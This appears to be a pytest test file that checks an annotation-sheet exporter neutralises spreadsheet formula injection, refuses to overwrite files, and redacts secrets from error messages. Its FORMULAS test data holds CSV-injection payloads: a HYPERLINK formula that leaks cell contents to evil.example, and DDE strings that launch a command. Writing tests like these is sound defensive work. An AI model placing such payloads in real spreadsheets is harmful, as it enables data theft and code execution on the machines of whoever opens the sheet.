"""Annotation sheets under hostile input: formula cells, overwrites, huge cells, pipes, secrets.

The generation log is made by a scripted model whose explanations are spreadsheet formulas in
every shape a spreadsheet would evaluate, so the exported sheet is checked cell by cell.
"""

from __future__ import annotations

import csv
import os
import threading
import unicodedata
from pathlib import Path

import pytest
from inspect_ai import eval as inspect_eval

from tests.fake_api import explain_items, idiom_of
from tests.scripted import scripted_model
from vivid_inspect.lab.cli.main import main
from vivid_inspect.lab.humans import sheet_files
from vivid_inspect.lab.humans.annotate.sheet_export import SHEET_COLUMNS, export_sheet
from vivid_inspect.lab.humans.scores_file import HumanScoresError, read_human_scores, record_path
from vivid_inspect.lab.humans.sheet_files import MAX_CELL, neutralise
from vivid_inspect.lab.humans.sheet_import import import_sheets
from vivid_inspect.tasks import explain

# Every way a cell can start a formula: ASCII and full-width/small marks, and marks behind what
# a spreadsheet (or a user tidying the sheet) strips first.
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&B2,"x")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A2)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "space": " =1+1",
    "spaces-and-tab": "  \t+cmd|' /C calc'!A0",
    "no-break-space": "\u00a0=1+1",
    "ideographic-space": "\u3000＝1+1",
    "zero-width-space": "\u200b=1+1",
    "byte-order-mark": "\ufeff@SUM(1)",
    "full-width-equals": "＝1+1",
    "full-width-plus": "＋1",
    "full-width-minus": "－1",
    "full-width-at": "＠SUM(1)",
    "small-equals": "\ufe66" + "1+1",
    "minus-sign": "\u22121+1",
    "dde": "=cmd|' /C calc'!A0",
    "bullet-list": "- Nghĩa đen: con mèo\n- Nghĩa bóng: kẻ lêu lổng",
}
SAFE = {
    "vietnamese": "Câu này khuyên người ta biết ơn.",
    "digit-first": "1+1 là hai",
    "equals-inside": "a=b",
    "empty": "",
}
ALL_CELLS = {**FORMULAS, **SAFE}
_MARKS = set("=+-@\t\r\n") | {"\u2212"}


def evaluates(cell: str) -> bool:
    """Whether a spreadsheet could read the cell as a formula: written here from the rule, not the code."""
    for char in cell:
        if char in _MARKS or unicodedata.normalize("NFKC", char)[:1] in _MARKS:
            return True
        if not (char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs")):
            return False
    return False


@pytest.mark.parametrize("cell", list(FORMULAS.values()), ids=list(FORMULAS))
def test_every_formula_shape_is_written_as_text(cell: str) -> None:
    assert evaluates(cell)
    written = neutralise(cell)
    assert written == "'" + cell and not evaluates(written)


@pytest.mark.parametrize("cell", list(SAFE.values()), ids=list(SAFE))
def test_plain_text_is_left_as_it_is(cell: str) -> None:
    assert neutralise(cell) == cell


# --- a generation whose explanations are formulas ------------------------------------------------------

ITEMS = explain_items()[: len(ALL_CELLS)]
BY_IDIOM = {item.idiom: text for item, text in zip(ITEMS, ALL_CELLS.values(), strict=True)}
HUGE = "rất dài " * 25_000  # 200 kB


@pytest.fixture(scope="module")
def hostile_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")

    def answer(prompt: str) -> str:
        idiom = idiom_of(prompt)
        return HUGE if idiom == ITEMS[-1].idiom else BY_IDIOM.get(idiom or "", "Lời giải thích.")

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("INSPECT_CACHE_DIR", str(tmp_path_factory.mktemp("cache")))
        (log,) = inspect_eval(
            explain(prompt="zero_shot", judge="none", data="sample"),
            model=scripted_model(answer),
            sample_id=[item.id for item in ITEMS],
            log_dir=str(folder),
            display="none",
        )
    assert log.status == "success"
    return Path(log.location)


def read_sheet(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_no_exported_cell_evaluates_and_the_text_is_kept(hostile_log: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    export_sheet(hostile_log, sheet, n=100)
    rows = read_sheet(sheet)
    assert rows and list(rows[0]) == list(SHEET_COLUMNS)
    neutralised = 0
    for row in rows:
        for column, cell in row.items():
            assert not evaluates(cell), (row["id"], column, cell)
            neutralised += cell.startswith("'")
    assert neutralised >= len([c for c in FORMULAS.values() if evaluates(c.strip())])
    # The text an annotator reads is the model's, after the one quote mark.
    shown = {row["explanation"].removeprefix("'") for row in rows}
    assert {text.strip() for text in FORMULAS.values()} <= shown


def test_a_cell_longer_than_a_spreadsheet_cell_is_cut_and_says_so(hostile_log: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    export_sheet(hostile_log, sheet, n=100)
    huge = next(row["explanation"] for row in read_sheet(sheet) if row["explanation"].startswith("rất dài"))
    assert len(huge) == MAX_CELL and huge.endswith("more characters not shown]")


def test_import_reads_only_ids_scores_and_annotators_so_what_is_scored_never_changes(
    hostile_log: Path, tmp_path: Path
) -> None:
    sheet = tmp_path / "sheet.csv"
    export_sheet(hostile_log, sheet, n=100)
    rows = read_sheet(sheet)
    scores = {int(row["id"]): int(row["id"]) % 6 for row in rows}

    def filled(name: str, text: str | None) -> Path:
        path = tmp_path / name
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(SHEET_COLUMNS))
            writer.writeheader()
            for row in rows:
                changed = (
                    {column: text for column in ("idiom", "reference_meaning", "explanation")}
                    if text is not None
                    else {}
                )
                writer.writerow(row | changed | {"score": str(scores[int(row["id"])]), "annotator": "lan"})
        return path

    as_exported = import_sheets([filled("lan.csv", None)], tmp_path / "a.csv")
    # A spreadsheet that evaluated the cells, or an annotator who cleared them, changes nothing.
    evaluated = import_sheets([filled("lan.csv", "#NAME?")], tmp_path / "b.csv", force=True)
    cleared = import_sheets([filled("lan.csv", "")], tmp_path / "c.csv", force=True)
    assert as_exported.equals(evaluated) and as_exported.equals(cleared)
    assert dict(zip(as_exported["id"], as_exported["score"], strict=True)) == scores


# --- never overwrite ------------------------------------------------------------------------------------


def _export(log: Path, out: Path | str, *extra: str) -> int:
    return main(["annotate", "export", str(log), "--out", str(out), "-n", "3", *extra])


@pytest.mark.parametrize("force", [False, True], ids=["plain", "force"])
@pytest.mark.parametrize("shape", ["same-path", "symlink", "relative", "hard-link", "record-of-out"])
def test_export_never_writes_over_its_log(
    hostile_log: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    shape: str,
    force: bool,
) -> None:
    log = tmp_path / hostile_log.name
    log.write_bytes(hostile_log.read_bytes())
    before = log.read_bytes()
    monkeypatch.chdir(tmp_path)
    if shape == "same-path":
        out: Path | str = log
    elif shape == "symlink":
        out = tmp_path / "sheet.csv"
        out.symlink_to(log)
    elif shape == "relative":
        (tmp_path / "sub").mkdir()
        out = f"sub/../{log.name}"
    elif shape == "hard-link":
        out = tmp_path / "sheet.csv"
        os.link(log, out)
    else:  # the log is where the sheet's record would go
        out = tmp_path / "sheet.csv"
        log = log.rename(record_path(out))
    assert _export(log, out, *(["--force"] if force else [])) == 2
    assert log.read_bytes() == before
    assert "is the input" in capsys.readouterr().err


def test_export_inside_the_log_folder_never_writes_over_the_chosen_log(
    hostile_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _export(hostile_log.parent, hostile_log, "--force") == 2
    assert "is the input" in capsys.readouterr().err


def test_an_existing_sheet_is_replaced_only_with_force(
    hostile_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("id,score\n1,4\n", encoding="utf-8")  # a filled sheet
    assert _export(hostile_log, sheet) == 2
    assert "already exists; pass --force" in capsys.readouterr().err
    assert sheet.read_text(encoding="utf-8") == "id,score\n1,4\n" and not record_path(sheet).exists()
    assert _export(hostile_log, sheet, "--force") == 0
    assert len(read_sheet(sheet)) == 3


def test_an_existing_record_is_not_replaced_either(hostile_log: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    record_path(sheet).write_text("{}", encoding="utf-8")
    assert _export(hostile_log, sheet) == 2
    assert not sheet.exists() and record_path(sheet).read_text(encoding="utf-8") == "{}"


def test_a_folder_as_out_is_refused(
    hostile_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _export(hostile_log, tmp_path, "--force") == 2
    assert "is a folder" in capsys.readouterr().err


@pytest.mark.parametrize("shape", ["same-path", "symlink", "relative", "another-sheet", "sheet-record"])
def test_import_never_writes_over_a_sheet(
    hostile_log: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    shape: str,
) -> None:
    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
    for sheet in (a, b):
        sheet.write_text("id,score,annotator\n1,4,lan\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    out: Path | str = {
        "same-path": a,
        "relative": "./a.csv",
        "another-sheet": b,
        "sheet-record": record_path(a),
    }.get(shape, tmp_path / "link.csv")
    if shape == "symlink":
        Path(out).symlink_to(a)
    if shape == "sheet-record":
        record_path(a).write_text("{}", encoding="utf-8")
    assert main(["annotate", "import", str(a), str(b), "--out", str(out), "--force"]) == 2
    assert "is the input" in capsys.readouterr().err
    assert a.read_text(encoding="utf-8") == b.read_text(encoding="utf-8") == "id,score,annotator\n1,4,lan\n"


def test_an_interrupted_write_leaves_the_old_file_and_no_partial_one(
    hostile_log: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("the old sheet\n", encoding="utf-8")

    def fail(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(sheet_files.os, "fsync", fail)
    with pytest.raises(OSError, match="No space left"):
        export_sheet(hostile_log, sheet, n=3, force=True)
    assert sheet.read_text(encoding="utf-8") == "the old sheet\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sheet.csv"]


# --- clear errors -----------------------------------------------------------------------------------------

LONG = "x" * 200_000


@pytest.mark.parametrize(
    ("content", "where"),
    [
        pytest.param(
            f"id,score,annotator\n1,4,lan\n2,3,{LONG}\n",
            "data row 2 (line 3), column 'annotator'",
            id="last-column",
        ),
        pytest.param(
            f"id,score,annotator\n{LONG},4,lan\n", "data row 1 (line 2), column 'id'", id="first-column"
        ),
        pytest.param(
            f'id,score,annotator\n1,4,"a, b\nc"\n2,"{LONG}",lan\n',
            "data row 2 (line 4), column 'score'",
            id="after-multiline",
        ),
        pytest.param(
            f'id,score,annotator\n1,4,"say ""{LONG}"""\n',
            "data row 1 (line 2), column 'annotator'",
            id="quoted",
        ),
        pytest.param(f"id,score,{LONG}\n1,4,lan\n", "header (line 1)", id="header"),
    ],
)
def test_a_field_over_the_csv_limit_names_its_row_and_column(
    tmp_path: Path, content: str, where: str
) -> None:
    path = tmp_path / "human.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(HumanScoresError) as caught:
        read_human_scores(path)
    message = str(caught.value)
    assert where in message and "longer than 131,072 characters" in message and len(message) < 500


def test_a_sheet_with_a_200_kb_cell_names_its_row_and_column(hostile_log: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    export_sheet(hostile_log, sheet, n=4)
    rows = read_sheet(sheet)
    rows[1]["explanation"] = LONG
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(SHEET_COLUMNS))
        writer.writeheader()
        writer.writerows(rows)
    with pytest.raises(
        ValueError, match=r"data row 2 \(line 3\), column 'explanation': a field is longer than 131,072"
    ):
        import_sheets([sheet], tmp_path / "human.csv")


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


@pytest.mark.parametrize(
    ("make", "said"),
    [
        pytest.param(lambda p: (p.mkdir(), p)[1], "is a folder, not a human scores file", id="folder"),
        pytest.param(_fifo, "is a named pipe (FIFO), not a human scores file", id="fifo"),
        pytest.param(lambda p: p, "human scores file not found", id="missing"),
        pytest.param(
            lambda p: (p.symlink_to(p.parent / "nowhere"), p)[1],
            "human scores file not found",
            id="dangling-link",
        ),
    ],
)
def test_a_human_file_that_is_not_a_file_says_what_it_is_without_blocking(
    tmp_path: Path, make, said: str
) -> None:
    path = make(tmp_path / "human.csv")
    outcome: list[BaseException] = []
    reader = threading.Thread(target=lambda: _capture(outcome, path), daemon=True)
    reader.start()
    reader.join(timeout=20)
    assert not reader.is_alive(), "reading the human file blocked"
    assert isinstance(outcome[0], HumanScoresError) and said in str(outcome[0])


def _capture(outcome: list[BaseException], path: Path) -> None:
    try:
        read_human_scores(path)
    except BaseException as error:  # noqa: BLE001 - the test inspects it
        outcome.append(error)


def test_report_and_validate_say_a_folder_is_a_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "humans").mkdir()
    assert (
        main(["report", str(tmp_path), "--human", str(tmp_path / "humans"), "--out", str(tmp_path / "r")])
        == 2
    )
    assert "is a folder" in capsys.readouterr().err
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "name: s\nlog_dir: logs\ndata: sample\nruns:\n  - tasks: [explain]\n    models: [vivid/oracle]\nhuman: humans\n",
        encoding="utf-8",
    )
    assert main(["validate", str(spec)]) == 2
    assert "human: " in (err := capsys.readouterr().err) and "is a folder" in err


SECRET = "sk-proj-" + "A1b2C3d4" * 6


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(f"OPENAI_API_KEY={SECRET}\nOTHER=1\n", id="dotenv"),
        pytest.param(f"export OPENAI_API_KEY={SECRET}, HF_TOKEN=hf_x\n", id="shell-export-with-comma"),
        pytest.param(f'{{"api_key": "{SECRET}"}}\n', id="json"),
        pytest.param(f"Authorization: Bearer {SECRET}\n", id="bearer-header"),
        pytest.param(f"id,score\n{SECRET},4\n", id="secret-as-id"),
        pytest.param(f"id,score\n1,{SECRET}\n", id="secret-as-score"),
        pytest.param(f"id,score,annotator,generation\n1,4,a,k\n2,4,a,{SECRET}\n", id="secret-as-generation"),
        pytest.param("z" * 10_000 + "\n", id="one-long-line"),
    ],
)
def test_a_file_that_is_not_human_scores_is_quoted_short_and_redacted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str
) -> None:
    path = tmp_path / ".env"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(HumanScoresError) as caught:
        read_human_scores(path)
    for message in (str(caught.value), _cli_error(tmp_path, path, capsys)):
        assert SECRET not in message and SECRET[:20] not in message
        assert "z" * 100 not in message and len(message) < 600


def _cli_error(tmp_path: Path, path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    assert main(["report", str(tmp_path), "--human", str(path), "--out", str(tmp_path / "r")]) == 2
    return capsys.readouterr().err


def test_a_sheet_that_is_not_a_sheet_is_quoted_short_and_redacted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "notes.csv"
    path.write_text(f"id,score\n{SECRET},4\n", encoding="utf-8")
    assert main(["annotate", "import", str(path), "--out", str(tmp_path / "h.csv")]) == 2
    err = capsys.readouterr().err
    assert SECRET not in err and "[REDACTED]" in err


def test_export_from_a_file_that_is_not_a_log_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    notes = tmp_path / "notes.eval"
    notes.write_text(f"OPENAI_API_KEY={SECRET}\n", encoding="utf-8")
    assert _export(notes, tmp_path / "sheet.csv") == 2
    err = capsys.readouterr().err
    assert "not a readable Inspect log" in err and SECRET not in err


def test_export_skips_a_broken_log_beside_the_generation(hostile_log: Path, tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / hostile_log.name).write_bytes(hostile_log.read_bytes())
    (folder / "broken.eval").write_bytes(b"PK\x03\x04 not a zip")
    assert _export(folder, tmp_path / "sheet.csv") == 0


# --- a damaged log: a summary whose sample is missing or unreadable --------------------------------------


def damaged(log: Path, out: Path, change: str) -> tuple[Path, str]:
    """A copy of ``log`` with the sample of its second summary removed or broken; returns it and that id."""
    import zipfile

    with zipfile.ZipFile(log) as source:
        names = source.namelist()
        samples = sorted(n for n in names if n.startswith("samples/"))
        victim = samples[1]
        sample_id = victim.removeprefix("samples/").split("_epoch_")[0]
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
            for name in names:
                data = source.read(name)
                if name == victim:
                    if change == "missing":
                        continue
                    data = {
                        "garbage": b"\x00\xff not json",
                        "array": b"[]",
                        "deep": b"[" * 5000,
                        "truncated": data[: len(data) // 2],
                    }[change]
                copy.writestr(name, data)
    return out, sample_id


@pytest.mark.parametrize("change", ["missing", "garbage", "array", "deep", "truncated"])
def test_export_of_a_log_whose_sample_is_missing_or_broken_names_the_log_and_the_id(
    hostile_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], change: str
) -> None:
    log, sample_id = damaged(hostile_log, tmp_path / hostile_log.name, change)
    out = tmp_path / "sheet.csv"
    assert _export(log, out, "-n", "100") == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    assert err.startswith(f"vivid annotate export: {log}: ") and f"sample {sample_id} " in err
    assert not out.exists() and not record_path(out).exists()


def test_export_of_a_log_whose_sample_is_missing_raises_a_value_error_naming_it(
    hostile_log: Path, tmp_path: Path
) -> None:
    log, sample_id = damaged(hostile_log, tmp_path / hostile_log.name, "missing")
    with pytest.raises(
        ValueError, match=rf"sample {sample_id} \(epoch 1\) is listed in the log's summaries but"
    ):
        export_sheet(log, tmp_path / "sheet.csv", n=100)
